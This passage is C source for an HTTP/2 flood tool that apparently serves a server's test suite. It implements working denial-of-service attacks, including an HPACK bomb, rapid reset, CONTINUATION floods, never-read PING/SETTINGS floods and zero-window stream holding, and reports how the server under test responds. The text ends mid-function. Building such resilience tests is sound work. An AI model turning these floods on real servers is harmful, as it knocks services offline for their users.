/*
 * h2_flood.c — the attacker of tests/http/h2_flood_test.sh: one HTTP/2 flood per run, against a
 * server under test (cleartext, prior knowledge), reported as key=value lines for the script to judge.
 *
 *   h2_flood --host ADDR --port PORT --attack NAME [--count N] [--duration SEC] [--timeout SEC]
 *            [--conns N] [--rcvbuf BYTES] [--path /healthz] [--list-size BYTES] [--verbose]
 *
 * The attacks (h2_flood --list) are the known HTTP/2 floods: an HPACK bomb, rapid reset
 * (CVE-2023-44487), CONTINUATION without end (CVE-2024-27316), PING and SETTINGS the server owes
 * answers to from a client that never reads (CVE-2019-9512, -9515), PRIORITY (-9513), WINDOW_UPDATE,
 * empty DATA (-9518) and empty field block fragments (-9516), streams held on a zero window (-9511's
 * kind) and a response never read (-9517); plus SETTINGS_MAX_CONCURRENT_STREAMS kept to and request
 * trailers.
 *
 * It only attacks and reports what it saw: how the server answered (statuses, RST_STREAM codes, the
 * first GOAWAY and its last stream id) and how the connection ended (closed=fin, rst, timeout: still
 * open after the wait, or open: the attack does not wait for a close). The verdict is the script's,
 * with the server's counters. Exit status 0 when the attack ran, 1 when it could not (no connection,
 * no handshake), 2 for bad usage.
 *
 * Frames are written by hand (tests/http/h2_wire.c) and often many to a write. Every wait is bounded
 * by --timeout (default 2 s) and every attack loop by --count and --duration, so a server that stops
 * answering cannot hold it; it connects only to --host and --port. A client that never reads learns
 * of the close from its socket (a reset) or from the server's end of the connection in /proc/net/tcp
 * (a FIN queued behind the bytes it does not read): the server must be in its network namespace.
 */
#include <inttypes.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tests/http/h2_wire.h"

#define PROG "h2_flood"

#define BOMB_FIELD_LEN  4000                  /* name + value of the one field the HPACK bomb indexes */
#define BOMB_ENTRY_SIZE (BOMB_FIELD_LEN + 32) /* its size in the dynamic table (RFC 7541 4.1) */
#define BATCH_MAX       (256 * 1024)          /* bytes of frames built for one write, at most */
#define CHECK_EVERY_MS  50                    /* how often a client that never reads looks for the close */
#define MAX_CONNS       64                    /* zero-window: attacker connections, at most */

static struct options {
    const char *host, *port, *attack, *path;
    uint64_t count;  /* 0: the attack's default */
    int duration_ms; /* 0: the attack's default */
    int timeout_ms;
    int conns;
    int rcvbuf;
    uint32_t list_size; /* the header list limit when the server does not say it */
    bool verbose, list;
} opt = {
    .host = "127.0.0.1",
    .path = "/healthz",
    .timeout_ms = 2000,
    .conns = 8,
    .rcvbuf = 4096,
    .list_size = 65536,
};

/* ------------------------------------------------------------------------------------------------ */
/* What one attack saw: answers per stream, the first GOAWAY, the end of the connection.           */

#define STATUS_KINDS 8

struct tally {
    uint32_t answered;                             /* streams with a final :status */
    uint32_t rst;                                  /* RST_STREAM from the server */
    uint32_t rst_by_code[INADEQUATE_SECURITY + 2]; /* the last slot: codes past the known ones */
    int status_code[STATUS_KINDS];
    uint32_t status_count[STATUS_KINDS];
    uint32_t *answered_ids; /* for "answered above the GOAWAY's last stream id" */
    size_t nanswered_ids, answered_ids_cap;
};

struct run {
    struct h2c *c;
    int64_t t0;     /* the attack's start */
    uint64_t units; /* what the attack counts (frames, pairs, requests) sent so far */
    struct tally t;
    bool cancelled_streams; /* a status is a stream's end (rapid reset: we cancel what we open) */
    bool goaway;            /* the first GOAWAY: */
    uint32_t goaway_code, goaway_last;
    int64_t goaway_ms;
    uint64_t units_at_goaway;
    bool waited_close;  /* the attack waited for the close: "timeout" if it did not come */
    int64_t closed_ms;  /* when the close was seen, -1 while open */
    const char *closed; /* "fin" or "rst" once closed */
    char bad[300];      /* the server broke the protocol as we read it */
};

static void fatal(const char *what)
{
    fprintf(stderr, PROG ": %s\n", what);
    exit(2);
}

static void tally_status(struct tally *t, int status, uint32_t id)
{
    t->answered++;
    for (int i = 0; i < STATUS_KINDS; i++) {
        if (t->status_code[i] == status || t->status_code[i] == 0) {
            t->status_code[i] = status;
            t->status_count[i]++;
            break;
        }
    }
    if (t->nanswered_ids == t->answered_ids_cap) {
        size_t cap = t->answered_ids_cap ? t->answered_ids_cap * 2 : 256;
        uint32_t *p = realloc(t->answered_ids, cap * sizeof(*p));
        if (!p)
            fatal("out of memory");
        t->answered_ids = p;
        t->answered_ids_cap = cap;
    }
    t->answered_ids[t->nanswered_ids++] = id;
}

/* A stream is done with when its response ended or it was reset (or, for streams we cancel, once
 * anything came for it): count it and forget it, so that the table has room for the next ones. */
static void settle(struct run *r)
{
    struct h2c *c = r->c;
    for (size_t i = c->nstreams; i-- > 0;) {
        struct stream_rec *s = &c->streams[i];
        bool done = (s->status && s->ended) || s->rst_code >= 0 ||
                    (r->cancelled_streams && (s->status || s->data_frames));
        if (!done)
            continue;
        if (s->status)
            tally_status(&r->t, s->status, s->id);
        if (s->rst_code >= 0) {
            r->t.rst++;
            r->t.rst_by_code[(uint32_t)s->rst_code <= INADEQUATE_SECURITY ? (uint32_t)s->rst_code
                                                                          : INADEQUATE_SECURITY + 1]++;
        }
        stream_forget(c, s->id);
    }
}

/* pump(), noting the first GOAWAY and the close. */
static enum ev next(struct run *r, int64_t deadline)
{
    enum ev ev = pump(r->c, deadline);
    if (ev == EV_FRAME && r->c->ftype == FT_GOAWAY && !r->goaway) {
        r->goaway = true;
        r->goaway_code = r->c->goaway_code;
        r->goaway_last = r->c->goaway_last;
        r->goaway_ms = now_ms() - r->t0;
        r->units_at_goaway = r->units;
    } else if (ev == EV_CLOSED && r->closed_ms < 0) {
        r->closed_ms = now_ms() - r->t0;
        r->closed = r->c->peer_reset ? "rst" : "fin";
    } else if (ev == EV_BAD && !r->bad[0]) {
        snprintf(r->bad, sizeof(r->bad), "%s", r->c->bad);
    }
    return ev;
}

/* Read and account for what the server sent until deadline, or less when nothing more is there. */
static enum ev drain(struct run *r, int64_t deadline)
{
    enum ev ev = EV_TIMEOUT;
    while (now_ms() < deadline) {
        ev = next(r, deadline);
        if (ev != EV_FRAME)
            break;
    }
    settle(r);
    return ev;
}

/* What is there now, without waiting (1 ms at most for the poll). */
static enum ev drain_now(struct run *r)
{
    return drain(r, now_ms() + 1);
}

static bool conn_gone(struct run *r)
{
    return r->closed_ms >= 0 || r->bad[0] || r->c->write_failed;
}

/* After a GOAWAY for an error the server must close (RFC 9113 5.4.1): wait for it, bounded. */
static void wait_close(struct run *r)
{
    int64_t deadline = now_ms() + opt.timeout_ms;
    r->waited_close = true;
    while (r->closed_ms < 0 && !r->bad[0] && now_ms() < deadline) {
        enum ev ev = next(r, deadline);
        if (ev == EV_TIMEOUT)
            break;
    }
    settle(r);
}

/* Wait (bounded) until stream id ended or was reset; out gets its record. false: it did not, in time. */
static bool wait_stream(struct run *r, uint32_t id, struct stream_rec *out)
{
    int64_t deadline = now_ms() + opt.timeout_ms;
    for (;;) {
        struct h2c *c = r->c;
        for (size_t i = 0; i < c->nstreams; i++) {
            struct stream_rec *s = &c->streams[i];
            if (s->id == id && ((s->status && s->ended) || s->rst_code >= 0)) {
                *out = *s;
                out->body = NULL; /* it goes with the record; nobody here compares it */
                settle(r);
                return true;
            }
        }
        settle(r);
        /* A frame ready to read is returned whatever the deadline: a server that never stops
         * sending must not keep us here either. */
        if (now_ms() >= deadline || next(r, deadline) != EV_FRAME)
            return false;
    }
}

/* "200", "rst:0x7", "goaway:0xb", "closed", "timeout", "bad": how stream id ended, for the report. */
static const char *stream_outcome(struct run *r, uint32_t id, char *buf, size_t size)
{
    struct stream_rec s;
    if (wait_stream(r, id, &s)) {
        if (s.rst_code >= 0)
            snprintf(buf, size, "rst:0x%x", (unsigned)s.rst_code);
        else
            snprintf(buf, size, "%d", s.status);
    } else if (r->bad[0]) {
        snprintf(buf, size, "bad");
    } else if (r->goaway && r->goaway_code != NO_ERROR) {
        snprintf(buf, size, "goaway:0x%x", r->goaway_code);
    } else {
        snprintf(buf, size, "%s", r->closed_ms >= 0 ? "closed" : "timeout");
    }
    return buf;
}

/* A PING of ours answered in time: the connection is alive and in sync. */
static bool alive(struct run *r)
{
    static const uint8_t data[8] = {'f', 'l', 'o', 'o', 'd', 'o', 'k', '!'};
    if (conn_gone(r))
        return false;
    send_ping(r->c, 0, data);
    int64_t deadline = now_ms() + opt.timeout_ms;
    for (;;) {
        if (now_ms() >= deadline || next(r, deadline) != EV_FRAME)
            return false;
        struct h2c *c = r->c;
        if (c->ftype == FT_PING && (c->fflags & FLAG_ACK) && c->flen == 8 && !memcmp(c->fpay, data, 8))
            return true;
    }
}

/* ------------------------------------------------------------------------------------------------ */
/* The report: key=value tokens, a few lines of them.                                              */

static void report_answers(struct run *r)
{
    struct tally *t = &r->t;
    printf("answered=%u rst=%u refused=%u", t->answered, t->rst, t->rst_by_code[REFUSED_STREAM]);
    for (int i = 0; i < STATUS_KINDS && t->status_code[i]; i++)
        printf(" status_%d=%u", t->status_code[i], t->status_count[i]);
    for (uint32_t code = 0; code <= INADEQUATE_SECURITY; code++)
        if (t->rst_by_code[code])
            printf(" rst_0x%x=%u", code, t->rst_by_code[code]);
    if (t->rst_by_code[INADEQUATE_SECURITY + 1])
        printf(" rst_other=%u", t->rst_by_code[INADEQUATE_SECURITY + 1]);
    printf("\n");
}

static void report_end(struct run *r)
{
    if (r->goaway)
        printf("goaway=0x%x goaway_name=%s last_stream=%u goaway_ms=%" PRId64 " sent_before_goaway=%" PRIu64
               "\n",
               r->goaway_code, error_name(r->goaway_code), r->goaway_last, r->goaway_ms, r->units_at_goaway);
    else
        printf("goaway=none\n");
    if (r->closed_ms >= 0)
        printf("closed=%s closed_ms=%" PRId64 "\n", r->closed, r->closed_ms);
    else
        printf("closed=%s\n", r->waited_close ? "timeout" : "open");
    if (r->bad[0])
        printf("bad=\"%s\"\n", r->bad);
    printf("bytes_sent=%" PRIu64 " elapsed_ms=%" PRId64 "\n", r->c->bytes_sent, now_ms() - r->t0);
}

/* ------------------------------------------------------------------------------------------------ */
/* Connections and frames in bulk.                                                                 */

static void conn_start(struct h2c *c, int rcvbuf)
{
    char err[300];
    if (!h2c_open(c, opt.host, opt.port, rcvbuf, err, sizeof(err))) {
        printf("error=\"%s\"\n", err);
        exit(1);
    }
}

/* The preface and our SETTINGS (n pairs), then the server's SETTINGS and the ACK of ours. */
static void handshake_v(struct h2c *c, int n, ...)
{
    va_list ap;
    send_raw(c, PREFACE, PREFACE_LEN);
    va_start(ap, n);
    send_settings_v(c, n, ap);
    va_end(ap);
    enum ev ev = wait_handshake(c, now_ms() + opt.timeout_ms);
    if (ev != EV_FRAME) {
        printf("error=\"expected the server's SETTINGS and the ACK of ours, got %s\"\n", got(c, ev));
        exit(1);
    }
}

static void handshake(struct h2c *c)
{
    handshake_v(c, 1, S_ENABLE_PUSH, 0u);
}

static struct h2c *conn_new(void)
{
    struct h2c *c = calloc(1, sizeof(*c)); /* large (stream table): on the heap */
    if (!c)
        fatal("out of memory");
    return c;
}

static void run_init(struct run *r, struct h2c *c)
{
    memset(r, 0, sizeof(*r));
    r->c = c;
    r->closed_ms = -1;
    r->t0 = now_ms();
}

/* The end of an attack: its connection and what it kept. */
static void run_free(struct run *r)
{
    free(r->t.answered_ids);
    conn_close(r->c);
    free(r->c);
}

/* Frames built into one buffer, to leave in one write. */
struct batch {
    size_t len;
    uint32_t frames;
    uint8_t buf[BATCH_MAX];
};

static bool batch_add(struct batch *b, uint8_t type, uint8_t flags, uint32_t stream, const void *payload,
                      size_t len)
{
    if (b->len + FRAME_HEADER_LEN + len > sizeof(b->buf))
        return false;
    b->len += frame_put(b->buf + b->len, type, flags, stream, payload, len);
    b->frames++;
    return true;
}

static void batch_send(struct run *r, struct batch *b)
{
    if (opt.verbose)
        fprintf(stderr, "#   send %u frames, %zu bytes\n", b->frames, b->len);
    conn_write(r->c, b->buf, b->len);
    b->len = 0;
    b->frames = 0;
}

static struct batch *batch_new(void)
{
    struct batch *b = calloc(1, sizeof(*b));
    if (!b)
        fatal("out of memory");
    return b;
}

/* A request's field block: method and path, :scheme http, :authority --host:--port. */
static void request_block(struct hblock *b, const char *method, const char *path)
{
    b->len = 0;
    hb_request(b, method, path);
}

/* A field block as HEADERS and as many CONTINUATION as max_frame_size asks; END_HEADERS on the last. */
static void send_block(struct h2c *c, uint32_t stream, uint8_t flags, const uint8_t *block, size_t len)
{
    size_t max = c->max_frame_size ? c->max_frame_size : DEFAULT_MAX_FRAME;
    size_t first = len < max ? len : max;
    stream_get(c, stream);
    send_frame(c, FT_HEADERS, (uint8_t)(flags | (first == len ? FLAG_END_HEADERS : 0)), stream, block, first);
    for (size_t off = first; off < len;) {
        size_t n = len - off < max ? len - off : max;
        send_frame(c, FT_CONTINUATION, off + n == len ? FLAG_END_HEADERS : 0, stream, block + off, n);
        off += n;
    }
}

/*
 * Send the same frames over and over (a batch of them per write), reading between writes, until
 * count units went out, the duration is over, a GOAWAY came or the connection ended; each batch
 * adds units_per_batch (its frames, or its request pairs). Then, after a GOAWAY, wait for the close.
 */
static void flood_batches(struct run *r, struct batch *b, uint64_t units_per_batch, uint64_t count,
                          int64_t end)
{
    size_t len = b->len;
    while (r->units < count && now_ms() < end && !r->goaway && !conn_gone(r)) {
        conn_write(r->c, b->buf, len);
        r->units += units_per_batch;
        drain_now(r);
    }
    if (r->goaway || conn_gone(r))
        wait_close(r);
}

/* ------------------------------------------------------------------------------------------------ */
/* A client that never reads: how the server's end of the connection is doing, seen from outside.   */

/* The kernel's spelling of an address in /proc/net/tcp and tcp6: "0100007F:1F90". */
static void proc_addr(const struct sockaddr_storage *ss, bool as_v6, char *out, size_t size)
{
    if (ss->ss_family == AF_INET && !as_v6) {
        const struct sockaddr_in *a = (const void *)ss;
        snprintf(out, size, "%08X:%04X", a->sin_addr.s_addr, ntohs(a->sin_port));
        return;
    }
    struct in6_addr v6;
    uint16_t port;
    if (ss->ss_family == AF_INET) { /* the IPv4-mapped form a dual-stack listener's sockets show */
        const struct sockaddr_in *a = (const void *)ss;
        memset(&v6, 0, sizeof(v6));
        v6.s6_addr[10] = v6.s6_addr[11] = 0xff;
        memcpy(&v6.s6_addr[12], &a->sin_addr, 4);
        port = ntohs(a->sin_port);
    } else {
        const struct sockaddr_in6 *a = (const void *)ss;
        v6 = a->sin6_addr;
        port = ntohs(a->sin6_port);
    }
    uint32_t w[4];
    memcpy(w, &v6, sizeof(w));
    snprintf(out, size, "%08X%08X%08X%08X:%04X", w[0], w[1], w[2], w[3], port);
}

enum { TCP_ST_ESTABLISHED = 1, TCP_ST_CLOSE_WAIT = 8 }; /* include/net/tcp_states.h */

struct far_end {
    char local[2][64], remote[2][64]; /* the server's socket: its address is our peer's, its peer us */
    int forms;
    bool seen; /* found once: its absence later means it is gone */
};

static void far_end_init(struct far_end *fe, int fd)
{
    struct sockaddr_storage self, peer;
    socklen_t l1 = sizeof(self), l2 = sizeof(peer);
    memset(fe, 0, sizeof(*fe));
    if (getsockname(fd, (struct sockaddr *)&self, &l1) || getpeername(fd, (struct sockaddr *)&peer, &l2))
        return;
    proc_addr(&peer, false, fe->local[0], sizeof(fe->local[0]));
    proc_addr(&self, false, fe->remote[0], sizeof(fe->remote[0]));
    fe->forms = 1;
    if (peer.ss_family == AF_INET) {
        proc_addr(&peer, true, fe->local[1], sizeof(fe->local[1]));
        proc_addr(&self, true, fe->remote[1], sizeof(fe->remote[1]));
        fe->forms = 2;
    }
}

/* The TCP state of the server's end (TCP_ST_*), 0 once it is gone, -1 when it cannot be seen (the
 * server is in another network namespace). */
static int far_end_state(struct far_end *fe)
{
    static const char *const files[] = {"/proc/net/tcp", "/proc/net/tcp6"};
    for (int f = 0; f < 2; f++) {
        FILE *in = fopen(files[f], "r");
        if (!in)
            continue;
        char line[512];
        while (fgets(line, sizeof(line), in)) {
            char local[64], remote[64];
            unsigned st;
            if (sscanf(line, " %*u: %63s %63s %x", local, remote, &st) != 3)
                continue;
            for (int i = 0; i < fe->forms; i++) {
                if (!strcmp(local, fe->local[i]) && !strcmp(remote, fe->remote[i])) {
                    fclose(in);
                    fe->seen = true;
                    return (int)st;
                }
            }
        }
        fclose(in);
    }
    return fe->seen ? 0 : -1;
}

/*
 * Has the server closed the connection we do not read? Our socket says so when it was reset; the
 * server's end says so when it left ESTABLISHED (a FIN queued behind the bytes we do not read
 * cannot reach us). Notes the close in r.
 */
static bool noread_closed(struct run *r, struct far_end *fe)
{
    if (r->closed_ms >= 0)
        return true;
    struct pollfd pfd = {.fd = r->c->fd, .events = 0};
    int err = 0;
    socklen_t elen = sizeof(err);
    if (poll(&pfd, 1, 0) == 1 && (pfd.revents & (POLLERR | POLLHUP)) &&
        !getsockopt(r->c->fd, SOL_SOCKET, SO_ERROR, &err, &elen) && err != 0)
        r->c->peer_reset = true;
    int st = far_end_state(fe);
    bool far_closed = st == 0 || (st > 0 && st != TCP_ST_ESTABLISHED && st != TCP_ST_CLOSE_WAIT);
    if (r->c->peer_reset || r->c->write_failed || far_closed) {
        r->closed_ms = now_ms() - r->t0;
        r->closed = r->c->peer_reset || st == 0 ? "rst" : "fin";
        return true;
    }
    return false;
}

/*
 * Write batch b again and again without ever reading, until count units went out or the duration
 * is over; past the count, keep watching (no more writes) until the duration is over. Stops at the
 * close. Each batch written whole adds units_per_batch. Without b it only watches.
 */
static void noread_flood(struct run *r, struct far_end *fe, const struct batch *b, uint64_t units_per_batch,
                         uint64_t count, int64_t end, bool *blocked, uint64_t *blocked_bytes,
                         int64_t *blocked_ms)
{
    size_t off = 0;
    int64_t next_check = 0;
    while (now_ms() < end) {
        if (now_ms() >= next_check) {
            next_check = now_ms() + CHECK_EVERY_MS;
            if (noread_closed(r, fe))
                return;
        }
        if (!b || r->units >= count) {
            usleep(CHECK_EVERY_MS * 1000);
            continue;
        }
        ssize_t n = conn_try_write(r->c, b->buf + off, b->len - off);
        if (n < 0) {
            noread_closed(r, fe);
            return;
        }
        off += (size_t)n;
        if (off == b->len) {
            off = 0;
            r->units += units_per_batch;
        }
        if (n == 0) {
            if (!*blocked) {
                *blocked = true;
                *blocked_bytes = r->c->bytes_sent;
                *blocked_ms = now_ms() - r->t0;
            }
            struct pollfd pfd = {.fd = r->c->fd, .events = POLLOUT};
            poll(&pfd, 1, CHECK_EVERY_MS);
        }
    }
}

/* After a never-read flood: read what the server sent (bounded) for its GOAWAY and the close. The
 * streams are left for the caller to look at, then settle(). */
static void noread_drain(struct run *r)
{
    int64_t deadline = now_ms() + opt.timeout_ms;
    bool was_closed = r->closed_ms >= 0;
    r->waited_close = true;
    while (now_ms() < deadline && !r->bad[0]) {
        enum ev ev = next(r, deadline);
        if (ev != EV_FRAME)
            break;
    }
    if (!was_closed && r->closed_ms >= 0)
        printf("close_seen_in=drain\n"); /* the close (FIN) came behind what we read only now */
}

static void report_noread(struct far_end *fe, bool blocked, uint64_t blocked_bytes, int64_t blocked_ms)
{
    if (blocked)
        printf("blocked=1 blocked_after_bytes=%" PRIu64 " blocked_ms=%" PRId64 "\n", blocked_bytes,
               blocked_ms);
    else
        printf("blocked=0\n");
    printf("server_end=%s\n", fe->seen ? "seen" : "unseen");
}

/* ------------------------------------------------------------------------------------------------ */
/* The attacks. Each gets its connection open, its count and its end time.                         */

/* The common start: the connection opened and past its handshake, r watching it. */
static void attack_start(struct run *r, struct h2c *c)
{
    conn_start(c, 0);
    handshake(c);
    run_init(r, c);
}

/* After a flood of frames: how many went out, and whether the connection still answers a PING when
 * the server neither said GOAWAY nor closed it. */
static void report_frames_sent(struct run *r)
{
    printf("frames_sent=%" PRIu64 "\n", r->units);
    if (!r->goaway && !conn_gone(r))
        printf("alive=%d\n", alive(r));
}

struct attack {
    const char *name;
    void (*run)(uint64_t count, int64_t end);
    uint64_t count;  /* default --count */
    int duration_ms; /* default --duration */
    const char *what;
};

/* 1. HPACK bomb: one 4000-byte field in the dynamic table, then requests of 1-byte references to it. */
static void attack_hpack_bomb(uint64_t count, int64_t end)
{
    struct h2c *c = conn_new();
    struct run r;
    attack_start(&r, c);

    /* Stream 1 puts the field in the table (literal with incremental indexing, new name): entry 62. */
    static char value[BOMB_FIELD_LEN];
    const char *name = "x-bomb";
    memset(value, 'b', sizeof(value));
    struct hblock *b = calloc(1, sizeof(*b));
    if (!b)
        fatal("out of memory");
    request_block(b, "GET", opt.path);
    hb_byte(b, 0x40);
    hb_str(b, name, strlen(name));
    hb_str(b, value, BOMB_FIELD_LEN - strlen(name));
    send_block(c, 1, FLAG_END_STREAM, b->buf, b->len);
    char outcome[64];
    printf("primed=%s\n", stream_outcome(&r, 1, outcome, sizeof(outcome)));

    /* Each bomb: the request, then index 62 until the block is as large as the header list may be. */
    uint32_t list = c->has_max_header_list ? c->max_header_list : opt.list_size;
    request_block(b, "GET", opt.path);
    size_t refs = 0;
    while (b->len < list && b->len < HBLOCK_MAX) {
        hb_indexed(b, 62);
        refs++;
    }
    printf("header_list_size=%u header_table_size=%u refs_per_request=%zu block_bytes=%zu"
           " decoded_bytes_per_request=%" PRIu64 "\n",
           list, c->header_table_size, refs, b->len, (uint64_t)refs * BOMB_ENTRY_SIZE);

    uint32_t id = 3;
    uint32_t rst = 0, status_431 = 0, other = 0, unanswered = 0;
    while (r.units < count && now_ms() < end && !r.goaway && !conn_gone(&r)) {
        struct stream_rec s;
        send_block(c, id, FLAG_END_STREAM, b->buf, b->len);
        r.units++;
        if (!wait_stream(&r, id, &s))
            unanswered++;
        else if (s.rst_code >= 0)
            rst++;
        else if (s.status == 431)
            status_431++;
        else
            other++;
        id += 2;
    }
    printf("bombs=%" PRIu64 " bomb_431=%u bomb_rst=%u bomb_other=%u bomb_unanswered=%u\n", r.units,
           status_431, rst, other, unanswered);
    /* The connection must still serve a plain request. */
    if (!conn_gone(&r) && !r.goaway) {
        struct hblock get = {.len = 0};
        request_block(&get, "GET", opt.path);
        send_block(c, id, FLAG_END_STREAM, get.buf, get.len);
        printf("after=%s\n", stream_outcome(&r, id, outcome, sizeof(outcome)));
    } else {
        printf("after=%s\n", r.goaway ? "goaway" : "closed");
    }
    report_answers(&r);
    report_end(&r);
    free(b);
    run_free(&r);
}

/* 2. Rapid reset: HEADERS and RST_STREAM(CANCEL) pairs, many to a write. */
static void attack_rapid_reset(uint64_t count, int64_t end)
{
    struct h2c *c = conn_new();
    struct run r;
    struct batch *b = batch_new();
    attack_start(&r, c);
    r.cancelled_streams = true;

    struct hblock get = {.len = 0};
    request_block(&get, "GET", opt.path);
    uint8_t cancel[4];
    put32(cancel, CANCEL);
    uint32_t id = 1;
    while (r.units < count && now_ms() < end && !r.goaway && !conn_gone(&r)) {
        for (int i = 0; i < 64 && r.units < count; i++) {
            batch_add(b, FT_HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, id, get.buf, get.len);
            batch_add(b, FT_RST_STREAM, 0, id, cancel, sizeof(cancel));
            r.units++;
            id += 2;
        }
        batch_send(&r, b);
        drain_now(&r);
    }
    wait_close(&r);

    uint32_t above = 0;
    for (size_t i = 0; i < r.t.nanswered_ids; i++)
        if (r.goaway && r.t.answered_ids[i] > r.goaway_last)
            above++;
    printf("streams_sent=%" PRIu64 " last_stream_sent=%u answered_above_last=%u\n", r.units, id - 2, above);
    report_answers(&r);
    report_end(&r);
    free(b);
    run_free(&r);
}

/* 3. CONTINUATION flood: HEADERS without END_HEADERS, then CONTINUATION frames forever, some empty. */
static void attack_continuation(uint64_t count, int64_t end)
{
    struct h2c *c = conn_new();
    struct run r;
    struct batch *b = batch_new();
    attack_start(&r, c);

    struct hblock *h = calloc(1, sizeof(*h));
    if (!h)
        fatal("out of memory");
    request_block(h, "GET", opt.path);
    stream_get(c, 1);
    send_frame(c, FT_HEADERS, FLAG_END_STREAM, 1, h->buf, h->len);

    /* Three frames of one ~2 KB literal field each, then an empty one: 16 frames a write. */
    static char value[2000];
    memset(value, 'c', sizeof(value));
    h->len = 0;
    hb_field_n(h, "x-flood", 7, value, sizeof(value));
    for (int i = 0; i < 16; i++)
        batch_add(b, FT_CONTINUATION, 0, 1, h->buf, i % 4 == 3 ? 0 : h->len);
    flood_batches(&r, b, b->frames, count, end);
    printf("frames_sent=%" PRIu64 " frame_payload=%zu empty_every=4\n", r.units, h->len);
    if (!r.goaway && !conn_gone(&r))
        printf("alive=%d\n", alive(&r));
    report_answers(&r);
    report_end(&r);
    free(h);
    free(b);
    run_free(&r);
}

/* 4a. Control frames the server owes an answer to, from a client that never reads. */
static void noread_control(uint64_t count, int64_t end, bool pings, bool settings)
{
    struct h2c *c = conn_new();
    struct run r;
    struct far_end fe;
    struct batch *b = batch_new();
    conn_start(c, opt.rcvbuf);
    handshake(c);
    far_end_init(&fe, c->fd);
    far_end_state(&fe);

    uint8_t ping[8] = {'n', 'o', 'r', 'e', 'a', 'd', 0, 0}, setting[6] = {0, S_ENABLE_PUSH, 0, 0, 0, 0};
    for (int i = 0; i < 256; i++) {
        if (pings && (!settings || i % 2 == 0)) {
            ping[7] = (uint8_t)i;
            batch_add(b, FT_PING, 0, 0, ping, sizeof(ping));
        } else {
            batch_add(b, FT_SETTINGS, 0, 0, setting, sizeof(setting));
        }
    }
    run_init(&r, c);
    bool blocked = false;
    uint64_t blocked_bytes = 0;
    int64_t blocked_ms = 0;
    noread_flood(&r, &fe, b, b->frames, count, end, &blocked, &blocked_bytes, &blocked_ms);
    printf("frames_sent=%" PRIu64 " rcvbuf=%d\n", r.units, opt.rcvbuf);
    report_noread(&fe, blocked, blocked_bytes, blocked_ms);
    noread_drain(&r);
    settle(&r);
    report_end(&r);
    free(b);
    run_free(&r);
}

static void attack_ping_noread(uint64_t count, int64_t end)
{
    noread_control(count, end, true, false);
}

static void attack_settings_noread(uint64_t count, int64_t end)
{
    noread_control(count, end, false, true);
}

static void attack_mixed_noread(uint64_t count, int64_t end)
{
    noread_control(count, end, true, true);
}

/* 4b. PRIORITY frames on idle streams (100 of them, round and round). */
static void attack_priority(uint64_t count, int64_t end)
{
    struct h2c *c = conn_new();
    struct run r;
    struct batch *b = batch_new();
    attack_start(&r, c);
    for (uint32_t i = 0; i < 100; i++) {
        uint8_t p[5];
        put32(p, 0);
        p[4] = (uint8_t)(i * 7);
        batch_add(b, FT_PRIORITY, 0, 3 + 2 * i, p, sizeof(p));
    }
    flood_batches(&r, b, b->frames, count, end);
    report_frames_sent(&r);
    report_end(&r);
    free(b);
    run_free(&r);
}

/* 4c. WINDOW_UPDATE on the connection, 1 byte each, with nothing asked of the server. */
static void attack_window_update(uint64_t count, int64_t end)
{
    struct h2c *c = conn_new();
    struct run r;
    struct batch *b = batch_new();
    attack_start(&r, c);
    uint8_t one[4];
    put32(one, 1);
    for (int i = 0; i < 100; i++)
        batch_add(b, FT_WINDOW_UPDATE, 0, 0, one, sizeof(one));
    /* The window grows by the count: keep it under 2^31-1 (a FLOW_CONTROL_ERROR is not the point). */
    if (count > MAX_WINDOW / 2)
        count = MAX_WINDOW / 2;
    flood_batches(&r, b, b->frames, count, end);
    report_frames_sent(&r);
    report_end(&r);
    free(b);
    run_free(&r);
}

/* 4d. Empty DATA frames without END_STREAM on an open request. */
static void attack_empty_data(uint64_t count, int64_t end)
{
    struct h2c *c = conn_new();
    struct run r;
    struct batch *b = batch_new();
    attack_start(&r, c);
    struct hblock post = {.len = 0};
    request_block(&post, "POST", "/echo");
    stream_get(c, 1);
    send_frame(c, FT_HEADERS, FLAG_END_HEADERS, 1, post.buf, post.len);
    for (int i = 0; i < 64; i++)
        batch_add(b, FT_DATA, 0, 1, NULL, 0);
    flood_batches(&r, b, b->frames, count, end);
    report_frames_sent(&r);
    report_answers(&r);
    report_end(&r);
    free(b);
    run_free(&r);
}

/* 4e. Zero-length field block fragments: an empty HEADERS without END_HEADERS, then empty CONTINUATION. */
static void attack_empty_headers(uint64_t count, int64_t end)
{
    struct h2c *c = conn_new();
    struct run r;
    struct batch *b = batch_new();
    attack_start(&r, c);
    stream_get(c, 1);
    send_frame(c, FT_HEADERS, FLAG_END_STREAM, 1, NULL, 0);
    r.units = 1;
    for (int i = 0; i < 64; i++)
        batch_add(b, FT_CONTINUATION, 0, 1, NULL, 0);
    flood_batches(&r, b, b->frames, count, end);
    report_frames_sent(&r);
    report_answers(&r);
    report_end(&r);
    free(b);
    run_free(&r);
}

/* 5a. Streams held on a zero window: --conns connections, each with as many GETs of /bytes/100000 as
 * the server allows at once, SETTINGS_INITIAL_WINDOW_SIZE 0 and never a WINDOW_UPDATE. */
static void attack_zero_window(uint64_t count, int64_t end)
{
    int n = opt.conns < 1 ? 1 : opt.conns > MAX_CONNS ? MAX_CONNS : opt.conns;
    struct h2c *cs[MAX_CONNS];
    struct run rs[MAX_CONNS];
    uint32_t streams = 0;
    (void)count;
    for (int i = 0; i < n; i++) {
        cs[i] = conn_new();
        conn_start(cs[i], 0);
        cs[i]->auto_window_update = false;
        handshake_v(cs[i], 2, S_ENABLE_PUSH, 0u, S_INITIAL_WINDOW_SIZE, 0u);
        run_init(&rs[i], cs[i]);
        uint32_t per = cs[i]->has_max_concurrent ? cs[i]->max_concurrent : 100;
        if (per > MAX_STREAMS / 2)
            per = MAX_STREAMS / 2;
        struct batch *b = batch_new();
        struct hblock get = {.len = 0};
        request_block(&get, "GET", "/bytes/100000");
        for (uint32_t s = 0; s < per; s++) {
            stream_get(cs[i], 1 + 2 * s);
            batch_add(b, FT_HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, 1 + 2 * s, get.buf, get.len);
        }
        batch_send(&rs[i], b);
        free(b);
        rs[i].units = per;
        streams += per;
    }
    int open = n;
    while (open > 0 && now_ms() < end) {
        struct pollfd pfd[MAX_CONNS];
        for (int i = 0; i < n; i++)
